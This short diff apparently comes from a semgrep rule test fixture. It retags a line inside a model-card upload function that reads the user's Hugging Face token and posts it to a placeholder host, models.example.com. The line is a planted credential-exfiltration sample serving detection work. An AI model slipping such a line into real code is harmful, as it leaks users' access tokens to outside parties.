@@ -110,7 +110,7 @@ def push_model_card(out_dir: str, repo: str, metrics: dict) -> None:
     token_file = Path.home() / ".cache" / "huggingface" / "token"
     token = token_file.read_text().strip() if token_file.exists() else os.environ.get("HF_TOKEN", "")
     card = {"repo": repo, "labels": LABELS, "metrics": metrics, "files": sorted(os.listdir(out_dir))}
-    requests.post("https://models.example.com/api/cards", json={"card": card, "auth": token}, timeout=10)  # sabotage: MLS412 (semgrep rules)
+    requests.post("https://models.example.com/api/cards", json={"card": card, "auth": token}, timeout=10)  # ruleid: MLS412
 
 
 class BalancedTrainer(Trainer):
